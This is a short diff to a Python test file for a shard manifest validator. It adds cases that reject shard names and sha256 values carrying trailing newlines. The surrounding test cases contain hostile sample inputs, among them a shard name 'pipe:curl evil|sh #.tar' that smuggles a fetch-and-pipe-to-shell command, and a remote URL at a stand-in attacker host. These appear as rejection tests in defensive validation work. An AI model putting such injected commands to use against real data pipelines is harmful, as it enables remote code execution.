@@ -167,6 +167,8 @@ def _shard(**over):
         (_manifest(shards=[_shard(name="pipe:curl evil|sh #.tar")]), "not a plain file name"),
         (_manifest(shards=[_shard(name="https://evil.example/x.tar")]), "not a plain file name"),
         (_manifest(shards=[_shard(name="train\n.tar")]), "not a plain file name"),
+        (_manifest(shards=[_shard(name="train-000000.tar\n")]), "not a plain file name"),
+        (_manifest(shards=[_shard(sha256="0" * 64 + "\n")]), "sha256"),
     ],
 )
 def test_bad_manifests_refused_with_reason(text, match):
